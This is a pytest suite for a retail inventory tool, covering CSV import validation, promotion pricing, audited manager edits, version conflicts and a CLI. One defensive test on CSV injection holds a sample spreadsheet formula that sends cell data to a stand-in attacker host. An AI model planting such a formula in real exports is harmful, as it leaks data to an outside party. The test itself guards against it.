"""The live inventory: CSV validation, prices by date, edits, audit, versions, and its CLI.

Every test uses a real SQLite file in tmp_path. A rejected import or edit must leave the
database exactly as it was, so those tests compare a snapshot (export, audit, data_version)
taken before with one taken after.
"""

from __future__ import annotations

import json
import threading
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest

from store_assistant.cli import main
from store_assistant.errors import DataError, InventoryError
from store_assistant.store.inventory import ImportReport, Inventory
from store_assistant.store.products import Promotion

HEADER = ("sku,name,brand,category,model,price,promo_price,promo_start,promo_end,promo_text,"
          "stock_downtown,stock_westside,stock_northgate,aisle,manual,aliases")
TV = ('1001,"Samsung 65"" QLED TV, 2024",Samsung,tvs,QN65Q80C,1299.99,999.00,2025-03-01,'
      '2025-03-31,Spring sale,4,0,2,A12,tv-samsung-q80c.md,q80c; 65 inch samsung')
PHONE = "1002,Pixel 8,Google,phones,GA04803,699,,,,,10,3,0,B2,phone-pixel-8.md,pixel;google phone"
CHARGER = "1003,USB-C Charger 65W,Anker,accessories,A2667,49.5,,,,,25,12,8,C1,,anker charger"
ROWS = [TV, PHONE, CHARGER]


def write_csv(folder: Path, rows: list[str], header: str = HEADER, name: str = "inv.csv") -> Path:
    path = folder / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def inventory(tmp_path: Path) -> Inventory:
    inventory = Inventory(tmp_path / "data" / "inventory.db")
    assert inventory.import_csv(write_csv(tmp_path, ROWS)) == ImportReport(3, 0, 0)
    return inventory


def snapshot(inventory: Inventory, folder: Path) -> tuple:
    out = folder / "snapshot.csv"
    inventory.export_csv(out)
    return out.read_text(), inventory.audit(limit=10_000), inventory.data_version()


# --- import validation -----------------------------------------------------------------------

def _drop_column(column: str) -> tuple[str, list[str]]:
    names = HEADER.split(",")
    index = names.index(column)
    rows = [PHONE, CHARGER]  # no quoted commas, so splitting on "," is exact
    return (",".join(n for n in names if n != column),
            [",".join(c for i, c in enumerate(r.split(",")) if i != index) for r in rows])


BAD_FILES = {
    "missing column": (*_drop_column("model"), ["line 1, column model: missing from the header"]),
    "negative price": (HEADER, [PHONE, CHARGER.replace(",49.5,", ",-5,")],
                       ["line 3, column price: negative price -5"]),
    "non-numeric stock": (HEADER, [PHONE, CHARGER, "1004,Cable,Anker,accessories,C1,9,,,,,1,lots,0,,,"],
                          ["line 4, column stock_westside: 'lots' is not a whole number"]),
    "negative stock": (HEADER, [PHONE.replace(",10,3,0,", ",10,-3,0,")],
                       ["line 2, column stock_westside: negative stock -3"]),
    "duplicate sku": (HEADER, [PHONE, CHARGER, PHONE.replace("Pixel 8", "Pixel 9")],
                      ["line 4, column sku: duplicate SKU 1002 (first on line 2)"]),
    "unknown store": (HEADER.replace("stock_northgate", "stock_uptown"), [PHONE],
                      ["line 1, column stock_uptown: unknown store 'uptown'",
                       "line 1, column stock_northgate: missing; the database has store"]),
    "impossible date": (HEADER, [TV.replace("2025-03-31", "2025-02-30")],
                        ["line 2, column promo_end: 2025-02-30 is not a real date"]),
    "not ISO date": (HEADER, [TV.replace("2025-03-01", "3/1/2025")],
                     ["line 2, column promo_start: '3/1/2025' is not a date; write YYYY-MM-DD"]),
    "promo ends before it starts": (HEADER, [TV.replace("2025-03-31", "2025-02-01")],
                                    ["line 2, column promo_end: ends 2025-02-01, before it starts"]),
    "promo not below price": (HEADER, [TV.replace("999.00", "1299.99")],
                              ["line 2, column promo_price: promotion price 1299.99 is not below "
                               "the regular price 1299.99"]),
    "half a promo": (HEADER, [PHONE.replace("699,,,,,", "699,599,,,,")],
                     ["line 2, column promo_start: is empty but other promo_* columns are set",
                      "line 2, column promo_text: is empty"]),
    "currency sign": (HEADER, [PHONE.replace(",699,", ",$699,")],
                      ["line 2, column price: '$699' is not a number"]),
    "uppercase category": (HEADER, [PHONE.replace(",phones,", ",Phones,")],
                           ["line 2, column category: 'Phones' must be lowercase"]),
    "wrong field count": (HEADER, [PHONE + ",extra"],
                          ["line 2: has 17 fields but the header has 16"]),
}


@pytest.mark.parametrize("header, rows, expected", BAD_FILES.values(), ids=BAD_FILES.keys())
def test_bad_csv_names_line_and_column_and_changes_nothing(inventory: Inventory, tmp_path: Path,
                                                           header, rows, expected) -> None:
    before = snapshot(inventory, tmp_path)
    with pytest.raises(DataError) as caught:
        inventory.import_csv(write_csv(tmp_path, rows, header, name="bad.csv"))
    message = str(caught.value)
    assert "nothing was changed" in message
    for fragment in expected:
        assert fragment in message
    assert snapshot(inventory, tmp_path) == before


@pytest.mark.parametrize("content, expected", [
    (b"", "line 1: the file is empty"),
    (b"   \n\n", "line 1: the file is empty"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "line 3: the file is binary"),
    ((HEADER + "\n" + PHONE + "\n1004,Caf\xe9 speaker,X,audio,S1,9,,,,,1,1,1,,,\n").encode("latin-1"),
     "line 3: not UTF-8 text (byte 0xe9)"),
    (HEADER.encode() + b"\n", "line 2: no product rows after the header"),
], ids=["empty", "blank lines", "binary", "latin-1", "header only"])
def test_unreadable_files_change_nothing(inventory: Inventory, tmp_path: Path, content: bytes,
                                         expected: str) -> None:
    before = snapshot(inventory, tmp_path)
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(DataError, match="nothing was changed") as caught:
        inventory.import_csv(path)
    assert expected in str(caught.value)
    assert snapshot(inventory, tmp_path) == before


def test_every_bad_row_is_reported_with_file_line_numbers(tmp_path: Path) -> None:
    """A quoted newline makes one record span two lines; later line numbers still match the file."""
    rows = ['1001,"Samsung TV\nwith a two-line name",Samsung,tvs,Q80,1299,,,,,1,1,1,,,',
            PHONE.replace(",699,", ",0,"),
            CHARGER.replace(",25,", ",2.5,"),
            PHONE.replace("1002", "10O2")]
    inventory = Inventory(tmp_path / "inventory.db")
    with pytest.raises(DataError) as caught:
        inventory.import_csv(write_csv(tmp_path, rows))
    message = str(caught.value)
    assert "has 3 problem(s)" in message
    assert "line 4, column price: zero price 0" in message
    assert "line 5, column stock_downtown: '2.5' is not a whole number" in message
    assert "line 6, column sku: '10O2' must be digits only" in message
    assert inventory.stores() == [] and inventory.products() == []


def test_missing_file_is_a_data_error(inventory: Inventory, tmp_path: Path) -> None:
    with pytest.raises(DataError, match="does not exist"):
        inventory.import_csv(tmp_path / "nope.csv")


# --- import behaviour ------------------------------------------------------------------------

def test_import_defines_stores_and_reads_every_field(inventory: Inventory) -> None:
    assert inventory.stores() == ["downtown", "westside", "northgate"]
    tv = inventory.lookup("1001")
    assert tv.name == 'Samsung 65" QLED TV, 2024' and tv.price == 1299.99
    assert tv.promotion == Promotion(999.0, date(2025, 3, 1), date(2025, 3, 31), "Spring sale")
    assert list(tv.stock.items()) == [("downtown", 4), ("westside", 0), ("northgate", 2)]
    assert tv.aliases == ("q80c", "65 inch samsung") and tv.version == 1
    assert inventory.lookup("1003").price == 49.5 and inventory.lookup("1003").manual == ""
    assert inventory.lookup("9999") is None


def test_reimport_upserts_by_sku_and_audits_each_changed_field(inventory: Inventory,
                                                               tmp_path: Path) -> None:
    rows = [PHONE.replace(",699,", ",649,").replace(",10,3,0,", ",10,3,5,"),
            CHARGER, "1004,HDMI 2.1 Cable 2m,Belkin,cables,AV10175,29.99,,,,,6,6,6,C3,,"]
    report = inventory.import_csv(write_csv(tmp_path, rows, name="v2.csv"), actor="ana")
    assert report == ImportReport(added=1, updated=1, unchanged=1)
    assert inventory.lookup("1001").price == 1299.99  # absent from the file: left alone
    phone = inventory.lookup("1002")
    assert phone.price == 649.0 and phone.stock["northgate"] == 5 and phone.version == 2
    assert inventory.lookup("1003").version == 1
    changes = {(row["sku"], row["field"], row["old"], row["new"], row["actor"])
               for row in inventory.audit(limit=3)}
    assert changes == {("1002", "price", "699.00", "649.00", "ana"),
                       ("1002", "stock_northgate", "0", "5", "ana"),
                       ("1004", "product", None, "added", "ana")}


def test_same_file_again_is_skipped_so_manager_edits_survive(inventory: Inventory,
                                                             tmp_path: Path) -> None:
    inventory.update("1002", price=599.0)
    source = tmp_path / "inv.csv"
    assert inventory.import_csv(source).skipped
    assert inventory.lookup("1002").price == 599.0
    assert inventory.import_csv(source.read_text()).skipped  # same bytes given as text
    assert inventory.import_csv(source, force=True) == ImportReport(0, 1, 2)
    assert inventory.lookup("1002").price == 699.0


def test_same_file_into_a_new_database_is_imported(tmp_path: Path, inventory: Inventory) -> None:
    other = Inventory(tmp_path / "other.db")
    assert other.import_csv(tmp_path / "inv.csv") == ImportReport(3, 0, 0)


def test_export_then_import_round_trips(inventory: Inventory, tmp_path: Path) -> None:
    inventory.update("1003", promotion=Promotion(39.0, date(2025, 6, 1), date(2025, 6, 7), "Tech week"),
                     today=date(2025, 6, 1))
    first = tmp_path / "out" / "first.csv"
    first.parent.mkdir()
    assert inventory.export_csv(first) == 3
    copy = Inventory(tmp_path / "copy.db")
    assert copy.import_csv(first) == ImportReport(3, 0, 0)
    second = tmp_path / "out" / "second.csv"
    copy.export_csv(second)
    assert second.read_bytes() == first.read_bytes()
    assert copy.data_version() == inventory.data_version()
    assert inventory.import_csv(first) == ImportReport(0, 0, 3)
    assert sorted(p.name for p in first.parent.iterdir()) == ["first.csv", "second.csv"]
    assert first.read_text().splitlines()[0] == HEADER


def test_an_export_opens_in_a_spreadsheet_as_text_and_imports_back_exactly(
        tmp_path: Path) -> None:
    """OWASP CSV injection: a name like =HYPERLINK(...) would run when a manager opens the
    export. Every cell starting like a formula is exported behind a `'`; importing the export
    restores each name exactly, a name that really starts with `'` included."""
    import csv

    names = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")', "+1 cable",
             "-Pro stand", "@sum", "'90s radio"]
    rows = [f'{2000 + i},"{name.replace(chr(34), chr(34) * 2)}",Acme,accessories,M{i},9.99,,,,,'
            f'1,1,1,C1,,' for i, name in enumerate(names)]
    inventory = Inventory(tmp_path / "inv.db")
    inventory.import_csv(write_csv(tmp_path, rows))
    out = tmp_path / "export.csv"
    inventory.export_csv(out)
    with out.open(newline="", encoding="utf-8") as handle:
        exported = [row["name"] for row in csv.DictReader(handle)]
    assert exported == ["'" + name for name in names]
    copy = Inventory(tmp_path / "copy.db")
    copy.import_csv(out)
    assert [p.name for p in copy.products()] == [p.name for p in inventory.products()]
    assert sorted(p.name for p in copy.products()) == sorted(names)


def test_export_to_a_missing_folder_writes_nothing(inventory: Inventory, tmp_path: Path) -> None:
    with pytest.raises(DataError, match="does not exist"):
        inventory.export_csv(tmp_path / "missing" / "out.csv")
    assert not (tmp_path / "missing").exists()


# --- prices by date --------------------------------------------------------------------------

@pytest.mark.parametrize("day, status, price", [
    (date(2025, 2, 28), "upcoming", 1299.99),
    (date(2025, 3, 1), "active", 999.0),
    (date(2025, 3, 31), "active", 999.0),
    (date(2025, 4, 1), "expired", 1299.99),
])
def test_effective_price_follows_the_promotion_dates(inventory: Inventory, day: date,
                                                     status: str, price: float) -> None:
    tv = inventory.lookup("1001")
    assert tv.promotion.status(day) == status
    assert tv.effective_price(day) == price
    assert (tv.active_promotion(day) is not None) == (status == "active")
    assert inventory.lookup("1002").effective_price(day) == 699.0  # no promotion at all


# --- reading ---------------------------------------------------------------------------------

def test_search_categories_and_products(inventory: Inventory) -> None:
    assert [p.sku for p in inventory.search("samsung tv")] == ["1001"]
    assert [p.sku for p in inventory.search("PIXEL")] == ["1002"]
    assert [p.sku for p in inventory.search("google phone")] == ["1002"]  # an alias
    assert [p.sku for p in inventory.search("a2667")] == ["1003"]  # a model number
    assert [p.sku for p in inventory.search("100")] == ["1001", "1002", "1003"]
    assert [p.sku for p in inventory.search("1003")] == ["1003"]
    assert [p.sku for p in inventory.search("100", limit=1)] == ["1001"]
    assert inventory.search("%") == [] and inventory.search("  ") == []
    assert inventory.categories() == ["accessories", "phones", "tvs"]
    assert [p.sku for p in inventory.products("phones")] == ["1002"]
    assert [p.sku for p in inventory.products()] == ["1001", "1002", "1003"]


def test_exact_sku_ranks_first(inventory: Inventory, tmp_path: Path) -> None:
    inventory.import_csv(write_csv(tmp_path, [CHARGER.replace("1003", "21004"),
                                              PHONE.replace("1002", "1004")], name="more.csv"))
    assert [p.sku for p in inventory.search("1004")] == ["1004", "21004"]  # not file order
    assert [p.sku for p in inventory.search("pixel")] == ["1002", "1004"]


def test_a_failure_while_writing_rolls_the_whole_import_back(inventory: Inventory,
                                                             tmp_path: Path) -> None:
    """A database-level failure halfway through (here a real SQLite trigger) leaves no trace."""
    import sqlite3

    db = sqlite3.connect(inventory.path)
    with db:
        db.execute("CREATE TRIGGER full BEFORE INSERT ON products WHEN NEW.sku = '1004' "
                   "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    db.close()
    before = snapshot(inventory, tmp_path)
    rows = [PHONE.replace(",699,", ",649,"), CHARGER.replace("1003", "1004")]
    with pytest.raises(InventoryError, match="disk full"):
        inventory.import_csv(write_csv(tmp_path, rows, name="v2.csv"))
    assert snapshot(inventory, tmp_path) == before


# --- manager edits ---------------------------------------------------------------------------

def test_update_bumps_version_and_writes_audit_rows(inventory: Inventory) -> None:
    before = inventory.data_version()
    phone = inventory.update("1002", price=649.0, stock={"westside": 5}, actor="ana")
    assert (phone.price, phone.stock["westside"], phone.version) == (649.0, 5, 2)
    assert inventory.lookup("1002") == phone
    rows = inventory.audit(sku="1002")  # newest first, down to the import that added it
    assert [(r["field"], r["old"], r["new"], r["actor"]) for r in rows] == [
        ("stock_westside", "3", "5", "ana"), ("price", "699.00", "649.00", "ana"),
        ("product", None, "added", "import")]
    assert datetime.fromisoformat(rows[0]["at"]).utcoffset() == timedelta(0)
    assert inventory.data_version() != before

    promo = Promotion(599.0, date(2025, 11, 28), date(2025, 12, 1), "Black Friday")
    assert inventory.update("1002", promotion=promo, actor="bo",
                            today=date(2025, 11, 28)).promotion == promo
    assert inventory.update("1002", promotion="clear", actor="bo").promotion is None
    newest = inventory.audit(limit=4)
    assert [r["id"] for r in newest] == sorted((r["id"] for r in newest), reverse=True)
    assert [(r["field"], r["new"]) for r in newest] == [
        ("promo_text", ""), ("promo_end", ""), ("promo_start", ""), ("promo_price", "")]

    inventory.update("1002", price=699.0, stock={"westside": 3}, actor="ana")
    assert inventory.data_version() == before  # same content, same version string


def test_update_that_changes_nothing_keeps_the_version(inventory: Inventory) -> None:
    assert inventory.update("1002", price=699.0, stock={"downtown": 10}).version == 1
    assert [row["field"] for row in inventory.audit(sku="1002")] == ["product"]  # the import


@pytest.mark.parametrize("sku, changes, message", [
    ("9999", {"price": 10.0}, "No product with SKU '9999'"),
    ("1002", {"stock": {"uptown": 3}}, "Unknown store 'uptown' for SKU 1002; the stores are "
                                       "downtown, westside, northgate"),
    ("1002", {"stock": {"downtown": -1}}, "use 0 when the store has none"),
    ("1002", {"stock": {"downtown": 2.5}}, "must be a whole number"),
    ("1002", {"price": -5.0}, "must be greater than 0"),
    ("1002", {"price": 12.345}, "more than 2 decimal places"),
    ("1002", {"price": float("nan")}, "must be a number"),
    ("1001", {"price": 950.0}, "promotion price 999.00 must be below the regular price 950.00"),
    ("1002", {"promotion": Promotion(699.0, date(2025, 1, 1), date(2025, 1, 2), "x")},
     "must be below the regular price"),
    ("1002", {"promotion": Promotion(99.0, date(2025, 1, 2), date(2025, 1, 1), "x")},
     "before it starts"),
    ("1002", {"promotion": Promotion(99.0, date(2025, 1, 1), date(2025, 1, 2), " ")},
     "needs a text"),
    ("1002", {"promotion": "stop"}, "must be a Promotion or 'clear'"),
    ("1002", {}, "Nothing to change"),
    # one good change and one bad one: neither is applied
    ("1002", {"price": 10.0, "stock": {"downtown": -1}}, "use 0 when the store has none"),
])
def test_bad_update_is_refused_whole(inventory: Inventory, tmp_path: Path, sku: str,
                                     changes: dict, message: str) -> None:
    before = snapshot(inventory, tmp_path)
    with pytest.raises(InventoryError) as caught:
        inventory.update(sku, **changes, today=date(2025, 1, 1))
    assert message in str(caught.value)
    assert snapshot(inventory, tmp_path) == before


def test_stale_edit_is_refused_with_both_versions(inventory: Inventory) -> None:
    seen = inventory.lookup("1002")
    inventory.update("1002", price=649.0, expected_version=seen.version, actor="ana")
    with pytest.raises(InventoryError, match=r"1002 was changed by someone else \(version 2, "
                                             r"you had 1\); reload and try again"):
        inventory.update("1002", price=599.0, expected_version=seen.version, actor="bo")
    assert inventory.lookup("1002").price == 649.0


def test_concurrent_edits_from_threads_lose_nothing(inventory: Inventory) -> None:
    """Each thread adds one unit, retrying on a version conflict, as the app would."""
    errors: list[BaseException] = []

    def add_one() -> None:
        try:
            while True:
                current = inventory.lookup("1003")
                try:
                    inventory.update("1003", stock={"downtown": current.stock["downtown"] + 1},
                                     expected_version=current.version)
                    return
                except InventoryError as exc:
                    if "changed by someone else" not in str(exc):
                        raise
        except BaseException as exc:  # re-raised in the main thread below
            errors.append(exc)

    threads = [threading.Thread(target=add_one) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert inventory.lookup("1003").stock["downtown"] == 25 + 8
    assert inventory.lookup("1003").version == 9


def test_opening_without_create_needs_an_imported_database(tmp_path: Path) -> None:
    with pytest.raises(InventoryError, match="No inventory database at .*make data"):
        Inventory(tmp_path / "none.db", create=False)
    assert not (tmp_path / "none.db").exists()
    Inventory(tmp_path / "empty.db")
    with pytest.raises(InventoryError, match="is empty"):
        Inventory(tmp_path / "empty.db", create=False)


def test_a_file_that_is_not_a_database_is_an_inventory_error(tmp_path: Path) -> None:
    path = tmp_path / "inventory.db"
    path.write_text("not sqlite " * 100)
    with pytest.raises(InventoryError, match="move it aside"):
        Inventory(path)


# --- CLI -------------------------------------------------------------------------------------

@pytest.fixture
def data_dir(tmp_path: Path, capsys: pytest.CaptureFixture) -> Path:
    data = tmp_path / "data"
    assert main(["inventory", "import", str(write_csv(tmp_path, ROWS)), "--data-dir", str(data)]) == 0
    assert "3 added, 0 updated, 0 unchanged" in capsys.readouterr().out
    return data


def cli(data_dir: Path, *args: str) -> int:
    return main(["inventory", *args, "--data-dir", str(data_dir)])


def test_cli_show(data_dir: Path, capsys: pytest.CaptureFixture) -> None:
    assert cli(data_dir, "show", "1001") == 0
    out = capsys.readouterr().out
    assert 'Samsung 65" QLED TV, 2024' in out and "price: $1,299.99" in out
    assert 'promotion (expired): $999.00 "Spring sale" from 2025-03-01 until 2025-03-31' in out
    assert "stock: downtown 4, westside 0, northgate 2" in out and "aisle: A12" in out

    assert cli(data_dir, "show", "1002", "--json") == 0
    record = json.loads(capsys.readouterr().out)
    assert record["stock"] == {"downtown": 10, "westside": 3, "northgate": 0}
    assert (record["price"], record["effective_price"], record["promotion"]) == (699.0, 699.0, None)


def test_cli_set_price_stock_and_promotion(data_dir: Path, capsys: pytest.CaptureFixture) -> None:
    until = (date.today() + timedelta(days=10)).isoformat()
    assert cli(data_dir, "set", "1002", "--price", "649", "--stock", "westside=5",
               "--stock", "northgate=1") == 0
    assert cli(data_dir, "set", "1002", "--promo", "Pixel days", "--promo-price", "599",
               "--until", until) == 0
    out = capsys.readouterr().out
    assert "price: $649.00 ($599.00 today)" in out
    assert f'promotion (active): $599.00 "Pixel days" from {date.today()} until {until}' in out
    inventory = Inventory(data_dir / "inventory.db", create=False)
    phone = inventory.lookup("1002")
    assert phone.stock == {"downtown": 10, "westside": 5, "northgate": 1} and phone.version == 3
    assert all(row["actor"].startswith("cli") for row in inventory.audit())
    assert cli(data_dir, "set", "1002", "--clear-promo") == 0
    assert inventory.lookup("1002").promotion is None


@pytest.mark.parametrize("args, message", [
    (["set", "1002", "--stock", "uptown=3"], "Unknown store 'uptown'"),
    (["set", "1002", "--stock", "downtown=-2"], "use 0 when the store has none"),
    (["set", "1002", "--stock", "downtown"], "should be STORE=N"),
    (["set", "1002", "--price", "abc"], "--price: 'abc' is not a number"),
    (["set", "1002", "--promo", "Sale", "--promo-price", "800", "--until", "2099-01-01"],
     "must be below the regular price"),
    (["set", "1002", "--promo", "Sale", "--promo-price", "500"], "--promo needs --promo-price and --until"),
    (["set", "1002", "--promo", "Sale", "--promo-price", "500", "--until", "2000-01-01"], "in the past"),
    (["set", "1002", "--promo", "Sale", "--promo-price", "500", "--until", "31/12/2099"],
     "--until: '31/12/2099' is not a date"),
    (["set", "1002", "--until", "2099-01-01"], "go with --promo TEXT"),
    (["set", "1002", "--clear-promo", "--promo", "x"], "--clear-promo cannot go with"),
    (["set", "1002"], "Nothing to change"),
    (["set", "9999", "--price", "5"], "No product with SKU '9999'"),
    (["show", "9999"], "No product with SKU '9999'"),
])
def test_cli_bad_input_exits_2_and_changes_nothing(data_dir: Path, capsys: pytest.CaptureFixture,
                                                   args: list[str], message: str) -> None:
    before = Inventory(data_dir / "inventory.db").data_version()
    assert cli(data_dir, *args) == 2
    assert message in capsys.readouterr().err
    assert Inventory(data_dir / "inventory.db").data_version() == before


@pytest.mark.parametrize("args", [["show", "1001"], ["set", "1001", "--price", "5"],
                                  ["export", "out.csv"]])
def test_cli_without_a_database_says_how_to_make_one(tmp_path: Path, capsys, args) -> None:
    data = tmp_path / "data"
    assert cli(data, *args) == 2
    err = capsys.readouterr().err
    assert f"No inventory database at {data / 'inventory.db'}" in err
    assert "store-assistant inventory import manuals/inventory.csv" in err
    assert not data.exists()


def test_cli_import_of_a_bad_file_lists_every_row_and_writes_nothing(tmp_path: Path, capsys) -> None:
    source = write_csv(tmp_path, [PHONE.replace(",699,", ",-1,"), CHARGER.replace(",25,", ",x,")])
    data = tmp_path / "data"
    assert cli(data, "import", str(source)) == 2
    err = capsys.readouterr().err
    assert "line 2, column price: negative price -1" in err
    assert "line 3, column stock_downtown: 'x' is not a whole number" in err
    assert not data.exists()


def test_cli_import_again_and_export(data_dir: Path, tmp_path: Path, capsys) -> None:
    assert cli(data_dir, "import", str(tmp_path / "inv.csv")) == 0
    assert "unchanged since the last import" in capsys.readouterr().out
    out = tmp_path / "export.csv"
    assert cli(data_dir, "export", str(out)) == 0
    assert f"wrote 3 products to {out}" in capsys.readouterr().out
    assert cli(data_dir, "import", str(out)) == 0
    assert "0 added, 0 updated, 3 unchanged" in capsys.readouterr().out


# --- the real file ---------------------------------------------------------------------------

def test_the_shipped_inventory_file_imports_clean(tmp_path: Path) -> None:
    source = Path(__file__).resolve().parents[2] / "manuals" / "inventory.csv"
    inventory = Inventory(tmp_path / "inventory.db")
    report = inventory.import_csv(source)
    assert report.added == len(inventory.products()) >= 150
    assert inventory.stores() == ["downtown", "westside", "northgate"]
    exported = tmp_path / "exported.csv"
    inventory.export_csv(exported)
    assert inventory.import_csv(exported) == ImportReport(0, 0, report.added)


def test_a_promotion_that_has_ended_is_refused_whichever_door(inventory: Inventory) -> None:
    """The rule lives in Inventory: the CLI, the web form and code all go through `update`."""
    before = inventory.data_version()
    ended = Promotion(599.0, date(2025, 11, 1), date(2025, 11, 30), "November deal")
    with pytest.raises(InventoryError, match="2025-11-30, which is in the past"):
        inventory.update("1002", promotion=ended, today=date(2025, 12, 1))
    assert inventory.data_version() == before
    ends_today = inventory.update("1002", promotion=ended, today=date(2025, 11, 30))
    assert ends_today.promotion == ended

